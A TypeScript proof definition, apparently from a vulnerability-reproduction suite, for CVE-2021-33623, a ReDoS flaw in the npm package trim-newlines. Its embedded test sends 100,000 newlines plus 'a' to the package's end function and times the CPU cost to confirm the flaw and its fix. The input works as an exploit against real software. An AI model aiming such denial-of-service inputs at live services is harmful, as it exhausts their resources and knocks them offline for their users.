import { defineProof } from '../define-proof.ts';

/** Trims a text with very many line ends in its midst and takes the time. */
export const trimNewlinesTime = defineProof({
  name: 'trim-newlines-time',
  ids: ['CVE-2021-33623', 'GHSA-7p7h-4mm5-852v'],
  ecosystem: 'npm',
  package: 'trim-newlines',
  kind: 'redos',
  describes: 'Trims a text with very many line ends in its midst and takes the time.',
  shownOn: { vulnerable: '3.0.0', fixed: '3.0.1' },
  source: String.raw`
module.exports = ({ load, cpuMs }) => {
  const subject = load();
  const answers = subject('\na\n') === 'a';
  const reproduced =
    cpuMs(() => {
      try {
        subject.end('\n'.repeat(100_000) + 'a');
      } catch {
        // Refusing is an answer as well.
      }
    }) > 1_000;
  return { reproduced, answers };
};
`,
});
